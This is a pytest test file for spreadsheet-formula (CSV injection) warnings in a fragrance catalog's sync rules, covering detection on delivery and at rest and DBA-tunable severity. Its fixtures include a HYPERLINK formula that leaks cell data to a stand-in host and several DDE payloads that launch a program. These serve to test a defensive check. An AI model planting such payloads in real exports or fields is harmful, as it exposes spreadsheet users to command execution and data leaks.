"""Texts a spreadsheet reads as a formula, table-driven.

A name or description that starts with =, +, -, @, a tab or a carriage return
passed every rule: valid JSON, valid text. The smart library's readers export
the catalog to CSV and open it in a spreadsheet, which reads such a cell as a
formula ("CSV injection"): "=HYPERLINK(...)" shows a link its author chose,
"=cmd|' /C calc'!A0" asks to run a program, "-Rose" shows #NAME?. Such a text
is name.spreadsheet_formula or description.spreadsheet_formula, both warnings:
told on the delivery, a finding at rest, never refused. Judged on the hook's
path (a batch through sync.receive_many) and at rest (sync.check_catalog).
"""

from __future__ import annotations

import psycopg
import pytest
from helpers import findings_at_rest, prepared_messages, receipt_codes

# (case id, a text a spreadsheet reads as a formula).
FORMULAS: list[tuple[str, str]] = [
    ("a link", '=HYPERLINK("http://example.com/?leak="&A2, "Rose")'),
    ("a command through DDE", "=cmd|' /C calc'!A0"),
    ("a plus", "+1+cmd|' /C calc'!A0"),
    ("a minus", "-2+3+cmd|' /C calc'!A0"),
    ("an at sign", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("a dash before a word, #NAME? in a sheet", "-Rose"),
]
IDS = [case for case, _ in FORMULAS]

# (case id, a text with those characters elsewhere than at its start).
NOT_FORMULAS: list[tuple[str, str]] = [
    ("an equals sign inside", "Rose = joy"),
    ("a dash inside", "Rose - Noir"),
    ("an at sign inside", "Rose @ home"),
    ("a plus at the end", "Rose+"),
    ("a full-width equals sign", "\uff1dRose"),
]


@pytest.mark.parametrize("name", [n for _, n in FORMULAS], ids=IDS)
def test_a_name_a_spreadsheet_reads_as_a_formula_is_applied_with_a_warning(
    tx: psycopg.Connection, name: str
) -> None:
    [reasons] = receipt_codes(tx, [{"fragrance_id": 7, "name": name}])
    assert reasons == ["name.spreadsheet_formula:warning"]
    assert tx.execute("select name from public.fragrances where fragrance_id = 7").fetchone() == (
        name,
    )


@pytest.mark.parametrize("text", [n for _, n in FORMULAS], ids=IDS)
def test_a_padded_description_a_spreadsheet_reads_as_a_formula_is_a_warning(
    tx: psycopg.Connection, text: str
) -> None:
    """Padded as the CMS's are: told for the formula, not the padding."""
    [reasons] = receipt_codes(tx, [{"fragrance_id": 7, "description": text + "  "}])
    assert reasons == ["description.spreadsheet_formula:warning"]


@pytest.mark.parametrize(
    ("text", "told_as"),
    [
        pytest.param("\t=cmd|' /C calc'!A0", "description.spreadsheet_formula", id="a tab"),
        pytest.param("\r=cmd|' /C calc'!A0", "description.spreadsheet_formula", id="a return"),
    ],
)
def test_a_description_that_starts_with_a_tab_or_a_return_is_a_formula_too(
    tx: psycopg.Connection, text: str, told_as: str
) -> None:
    """Some spreadsheets strip them first (a name's are control characters, errors)."""
    [reasons] = receipt_codes(tx, [{"fragrance_id": 7, "description": text}])
    assert reasons == [f"{told_as}:warning"]


@pytest.mark.parametrize("name", [n for _, n in FORMULAS], ids=IDS)
def test_a_row_at_rest_a_spreadsheet_reads_as_a_formula_is_a_finding_of_the_catalog_check(
    db: psycopg.Connection, name: str
) -> None:
    assert findings_at_rest(db, name, name) == [
        ("description.spreadsheet_formula", "warning"),
        ("name.spreadsheet_formula", "warning"),
    ]


@pytest.mark.parametrize(
    "text", [n for _, n in NOT_FORMULAS], ids=[case for case, _ in NOT_FORMULAS]
)
def test_those_characters_elsewhere_pass(tx: psycopg.Connection, text: str) -> None:
    [reasons] = receipt_codes(tx, [{"fragrance_id": 7, "name": text, "description": text}])
    assert reasons == []


def test_the_sentence_names_the_character_and_what_a_reader_gets(tx: psycopg.Connection) -> None:
    assert prepared_messages(tx, {"fragrance_id": 1, "name": "=1+1"}) == [
        'name starts with "=", which a spreadsheet reads as the start of a formula: a reader'
        " who opens an export of the catalog gets a formula run (a link, a command) or an error"
        " where the name should be"
    ]


def test_the_rules_are_warnings_a_dba_can_turn_up_or_off(tx: psycopg.Connection) -> None:
    rows = tx.execute(
        "select code, severity, default_severity, applies_to, tunable, parameter from sync.rule"
        " where code like '%.spreadsheet_formula' order by code"
    ).fetchall()
    assert rows == [
        ("description.spreadsheet_formula", "warning", "warning", "both", ["severity"], None),
        ("name.spreadsheet_formula", "warning", "warning", "both", ["severity"], None),
    ]


def test_a_dba_who_turns_the_name_rule_to_an_error_refuses_the_edit(
    tx: psycopg.Connection,
) -> None:
    tx.execute("update sync.rule set severity = 'error' where code = 'name.spreadsheet_formula'")
    [reasons] = receipt_codes(tx, [{"fragrance_id": 7, "name": "=1+1", "forbidden": True}])
    assert reasons == ["name.spreadsheet_formula:error"]
    assert tx.execute("select name from public.fragrances where fragrance_id = 7").fetchone() != (
        "=1+1",
    )
